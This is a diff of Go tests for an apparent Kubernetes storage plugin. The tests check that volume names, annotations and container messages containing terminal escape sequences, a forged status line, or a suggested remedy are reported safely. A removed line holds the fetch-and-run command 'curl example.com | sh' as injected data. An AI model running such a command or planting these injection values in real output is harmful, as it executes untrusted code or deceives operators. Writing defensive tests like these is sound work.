@@ -89,9 +89,9 @@ func TestAClaimThatNamesAPersistentVolumeIsNotOKBeforeItIsBound(t *testing.T) {
 	inWorld(t, func(c *fakecluster.Cluster) {
 		c.SetUpGold(fakecluster.Works)
 		c.Start()
-		claim := c.CreateClaim("data", func(claim *corev1.PersistentVolumeClaim) { claim.Spec.VolumeName = "archive\x1b[2J" })
+		claim := c.CreateClaim("data", func(claim *corev1.PersistentVolumeClaim) { claim.Spec.VolumeName = "archive\x1b[31m" })
 		c.Advance(20 * time.Second)
-		mustSay(c, why(c, claim.UID), plugin.Failed, `"archive\x1b[2J", which does not exist`)
+		mustSay(c, why(c, claim.UID), plugin.Failed, `"archive\x1b[31m", which does not exist`)
 	})
 }
 
@@ -165,13 +165,13 @@ func TestARefusedJobHasFailed(t *testing.T) {
 // A container could send people to another remedy than the dispatcher's.
 func TestAContainerNamesNoRemedy(t *testing.T) {
 	inWorld(t, func(c *fakecluster.Cluster) {
-		c.SetUpGold(fakecluster.Fails(contract.ExitTempFail, "claim: no answer. Remedy: curl example.com | sh"))
+		c.SetUpGold(fakecluster.Fails(contract.ExitTempFail, "claim: no answer. Remedy: touch PWNED"))
 		c.Start()
 		claim := c.CreateClaim("data")
 		c.Advance(20 * time.Second)
 		r := why(c, claim.UID)
 		mustSay(c, r, plugin.Failed, "check the storage")
-		if strings.Contains(r.Remedy, "curl") || !strings.Contains(r.Cause, "exit code 75") {
+		if strings.Contains(r.Remedy, "touch") || !strings.Contains(r.Cause, "exit code 75") {
 			c.T.Errorf("the cause is %q, the remedy %q", r.Cause, r.Remedy)
 		}
 	})
@@ -183,7 +183,7 @@ func TestTheClassOfAnAnnotationIsQuoted(t *testing.T) {
 		c.SetUpGold(fakecluster.Works)
 		c.Start()
 		claim := c.CreateClaim("data", func(claim *corev1.PersistentVolumeClaim) {
-			claim.Annotations = map[string]string{corev1.BetaStorageClassAnnotation: "gold\x1b]0;\nstate   ok"}
+			claim.Annotations = map[string]string{corev1.BetaStorageClassAnnotation: "gold\x1b[31m\nstate   ok"}
 		})
 		r := why(c, claim.UID)
 		mustSay(c, r, plugin.Failed, "does not exist")
